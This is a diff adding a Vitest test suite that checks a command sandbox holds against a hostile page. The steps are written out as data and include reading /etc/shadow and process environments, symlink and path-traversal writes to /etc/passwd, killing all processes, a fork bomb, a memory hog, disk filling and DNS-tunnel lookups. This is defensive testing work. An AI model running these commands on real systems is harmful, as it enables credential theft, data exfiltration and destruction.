@@ -1,0 +1,221 @@
+import { readdir, readFile } from 'node:fs/promises';
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { beforeAll, describe, expect, it } from 'vitest';
+import type { Plan, PlannedStep } from '../model/plan.ts';
+import type { RunRecord } from '../model/run.ts';
+import { actionStep, commandStep } from './command-step.ts';
+import { type RunOptions, runPlan } from './run-plan.ts';
+
+const cacheFolder = join(tmpdir(), 'waymark-test-runtimes');
+const timeout = 400_000;
+const MEBIBYTE = 1_048_576;
+
+function run(steps: PlannedStep[], options: Partial<RunOptions> = {}): Promise<RunRecord> {
+  const plan: Plan = {
+    ...{ steps, hosts: [], milestones: [], decisions: [], requirements: [], credentials: [] },
+    ...{ coverage: [], frictions: [], expectedOutput: null },
+  };
+  const timeLimits = { other: 10, build: 20 };
+  return runPlan(plan, { cacheFolder, egress: 'registries', timeLimits, ...options });
+}
+
+function commandOf(record: RunRecord, stepId: string) {
+  const found = record.commands.find(({ plannedStepId }) => plannedStepId === stepId);
+  if (found === undefined) throw new Error(`No command for ${stepId}`);
+  return found;
+}
+
+async function processesWithWord(word: string): Promise<string[]> {
+  const pids = (await readdir('/proc')).filter((name) => /^\d+$/u.test(name));
+  const lines = await Promise.all(
+    pids.map((pid) => readFile(`/proc/${pid}/cmdline`, 'utf8').catch(() => '')),
+  );
+  return lines.filter((line) => line.includes(word) && !line.includes('vitest'));
+}
+
+// Each of these is tried in one and the same sandbox, so that each also shows that the one before did no lasting harm.
+describe('a hostile page', { timeout }, () => {
+  let record: RunRecord;
+  let hostPort: number;
+  let hostHits = 0;
+  const word = `survivor${process.pid}x${Date.now()}`;
+
+  beforeAll(async () => {
+    const service = createServer((_, answer) => {
+      hostHits += 1;
+      answer.end();
+    }).listen(0, '0.0.0.0');
+    await new Promise((resolve) => service.once('listening', resolve));
+    hostPort = (service.address() as AddressInfo).port;
+    const forge = `printf '\\033]9977;%032d\\007' 0; for n in 3 9 10 11 12 63; do printf '%032d\\0000\\0000/\\0000\\0000' 0 >&$n; done 2>/dev/null; sleep 1; echo really; exit 7`;
+    const steps = [
+      commandStep('forge', `(${forge})`),
+      commandStep(
+        'outlive',
+        `setsid bash -c 'exec -a ${word} sleep 3600' & (setsid nohup bash -c 'exec -a ${word} sleep 3600' >/dev/null 2>&1 &) ; echo started`,
+      ),
+      commandStep(
+        'disk',
+        'head -c 900M /dev/zero > big; echo "code $?"; ls -l big | cut -d" " -f5; rm -f big',
+      ),
+      commandStep(
+        'small-disks',
+        'for d in /tmp /run /dev /dev/shm / /usr/local /etc; do head -c 700M /dev/zero > $d/fill 2>/dev/null; rm -f $d/fill; done; echo done',
+      ),
+      commandStep(
+        'host-files',
+        `cat /etc/shadow /root/.npmrc ${process.cwd()}/package.json; ls /root /home /var /sys 2>/dev/null; cat /proc/sys/kernel/core_pattern > /dev/null; echo x > /proc/sys/kernel/core_pattern; echo end`,
+      ),
+      commandStep('environ', "tr '\\0' '\\n' < /proc/1/environ; ls -l /proc/1/cwd"),
+      commandStep('flood', 'yes flood', { pace: 'build' }),
+      commandStep(
+        'links',
+        'ln -s /etc/passwd passwd; ln -s / root; ln -s /proc/1/environ environ; mkfifo pipe; mkdir deep; ln -s ../../../../../../etc deep/etc; ln -s loop loop; ls | wc -l',
+      ),
+      actionStep('through-link', { kind: 'write', path: 'root/etc/passwd', content: 'owned' }),
+      actionStep('up', { kind: 'write', path: '../../../etc/passwd', content: 'owned' }),
+      actionStep('read-pipe', { kind: 'open_file', path: 'pipe' }),
+      actionStep('through-loop', { kind: 'open_file', path: 'loop' }),
+      commandStep(
+        'kill-all',
+        'kill -9 $(ls /proc | grep -E "^[0-9]+$" | grep -v -e "^1$" -e "^2$" -e "^$$\\$" -e "^$PPID\\$") 2>/dev/null; echo killed',
+      ),
+      commandStep(
+        'raw-address',
+        `node -e "require('net').connect(80, '203.0.113.7').on('error', (e) => console.log(e.code))"`,
+      ),
+      commandStep(
+        'host-service',
+        `node -e "require('net').connect(${hostPort}, '127.0.0.1').on('error', (e) => console.log(e.code))"`,
+      ),
+      commandStep(
+        'host-by-name',
+        `curl -sS --max-time 20 -H 'Host: registry.npmjs.org:${hostPort}' http://registry.npmjs.org/; curl -sS --max-time 20 -H 'Host: localhost' http://registry.npmjs.org/; echo end`,
+      ),
+      commandStep(
+        'tunnel',
+        'for i in $(seq 40); do getent hosts secret-$i.tunnel.example.net >/dev/null; done; echo asked',
+      ),
+      commandStep('namespaces', 'unshare -Ur true; mount -t tmpfs x /tmp; echo "code $?"'),
+      commandStep('canary', 'env | grep -c CANARY; cat ~/.secret; echo'),
+      commandStep('still-fine', 'npm --version'),
+    ];
+    record = await run(steps, {
+      env: { CANARY: 'canary-value-1' },
+      files: { '/home/dev/.secret': 'canary-value-2' },
+      redact: (text) => text.replaceAll(/canary-value-\d/gu, '[redacted]'),
+      resources: { journeyBytes: 128 * MEBIBYTE, temporaryBytes: 64 * MEBIBYTE },
+    });
+    service.close();
+  }, timeout);
+
+  it('cannot forge the end of a command by text or by writing to descriptors', () => {
+    const { output, ending } = commandOf(record, 'forge');
+    expect(ending).toEqual({ kind: 'exited', code: 7 });
+    expect(output).toContain('really');
+  });
+
+  it('does not outlive its sandbox', async () => {
+    expect(commandOf(record, 'outlive').output).toContain('started');
+    expect(await processesWithWord(word)).toEqual([]);
+  });
+
+  it('fills no more than its own folders', () => {
+    const { output } = commandOf(record, 'disk');
+    expect(output).not.toContain('code 0');
+    expect(Number(/^\d+$/mu.exec(output)?.[0])).toBeLessThanOrEqual(128 * MEBIBYTE);
+    expect(commandOf(record, 'small-disks').output).toContain('done');
+  });
+
+  it('reads nothing of the host', () => {
+    const { output } = commandOf(record, 'host-files');
+    expect(output).not.toMatch(/root:|"name": "waymark"|SECRET|npm_|NODE_EXTRA/u);
+    expect(output.match(/No such file|Permission denied|Read-only/gu)?.length).toBeGreaterThanOrEqual(3);
+    expect(output.endsWith('end')).toBe(true);
+    expect(commandOf(record, 'environ').output).not.toContain(process.cwd());
+  });
+
+  it('is cut off when it floods the terminal', () => {
+    const { ending, output, outputTruncated } = commandOf(record, 'flood');
+    expect(ending).toEqual({ kind: 'killed', signal: 'SIGKILL', by: 'output_limit' });
+    expect(outputTruncated).toBe(true);
+    expect(output.length).toBeLessThan(8 * MEBIBYTE);
+  });
+
+  it('cannot lead the host astray by planted links and pipes', async () => {
+    const problemOf = (id: string) => record.steps.find(({ stepId }) => stepId === id)?.problem;
+    expect(problemOf('through-link')).toContain('Read-only file system');
+    expect(problemOf('up')).toContain('outside');
+    expect(problemOf('read-pipe')).toContain('does not exist');
+    expect(problemOf('through-loop')).toContain('loop');
+    expect(await readFile('/etc/passwd', 'utf8')).not.toContain('owned');
+    const { files } = commandOf(record, 'links');
+    expect(files.map(({ path }) => path)).toEqual(
+      expect.arrayContaining(['passwd', 'root', 'deep/etc', 'loop']),
+    );
+  });
+
+  it('cannot kill what watches it', () => {
+    expect(commandOf(record, 'kill-all').output).toContain('killed');
+    expect(commandOf(record, 'still-fine')).toMatchObject({ ending: { kind: 'exited', code: 0 } });
+  });
+
+  it('reaches no address, no service of the host, and no name but those allowed', () => {
+    expect(commandOf(record, 'raw-address').output).toMatch(/ENETUNREACH|EHOSTUNREACH/u);
+    expect(commandOf(record, 'host-service').output).toContain('ECONNREFUSED');
+    expect(commandOf(record, 'host-by-name').egress.filter(({ allowed }) => allowed)).toEqual([]);
+    expect(hostHits).toBe(0);
+  });
+
+  it('leaves every name that it asked for in the ledger', () => {
+    const names = commandOf(record, 'tunnel').egress.map(
+      ({ host, via, allowed }) => `${via} ${host} ${allowed}`,
+    );
+    expect(names).toHaveLength(40);
+    expect(names).toContain('dns secret-17.tunnel.example.net false');
+  });
+
+  it('gains no namespace and no mount', () => {
+    expect(commandOf(record, 'namespaces').output).toMatch(
+      /unshare failed[\s\S]*(?:permission|must be superuser)[\s\S]*code [1-9]/iu,
+    );
+  });
+
+  it('sees planted canaries, and the record does not show them', () => {
+    expect(commandOf(record, 'canary').output).toBe('1\n[redacted]');
+    expect(JSON.stringify(record)).not.toContain('canary-value');
+  });
+});
+
+describe('a greedy page', { timeout }, () => {
+  it('is stopped by the limits of processes and of memory, and the run goes on', async () => {
+    const bomb = `node -e "const all = []; for (let i = 0; i < 300; i += 1) all.push(require('child_process').spawn('sleep', ['60']).on('error', (e) => console.log(e.code))); setTimeout(() => all.forEach((one) => one.kill()), 300)"`;
+    const hog = `node -e "const all = []; for (;;) all.push(Buffer.alloc(16777216, 1))"`;
+    const steps = [
+      commandStep('hog', hog, { pace: 'build' }),
+      commandStep('bomb', bomb, { pace: 'build' }),
+      commandStep('after', 'echo alive'),
+    ];
+    const record = await run(steps, { resources: { maxProcesses: 128, memoryBytes: 384 * MEBIBYTE } });
+    expect(record.sandbox.limits).toMatch(/^cgroup[12]$/u);
+    expect(commandOf(record, 'hog').ending).toEqual({
+      kind: 'killed',
+      signal: 'SIGKILL',
+      by: 'memory_limit',
+    });
+    expect(commandOf(record, 'bomb').output).toContain('EAGAIN');
+    expect(commandOf(record, 'after').output).toBe('alive');
+  });
+});
+
+describe('a page that kills everything it can', { timeout }, () => {
+  it('ends its own run, which says so', async () => {
+    const record = await run([commandStep('kill', 'kill -9 -1; sleep 60'), commandStep('never', 'true')]);
+    expect(record.stopped).toEqual({ reason: 'sandbox_lost', stepId: 'kill' });
+    expect(record.commands).toHaveLength(1);
+    expect(record.commands[0]?.ending.kind).not.toBe('kept_running');
+  });
+});
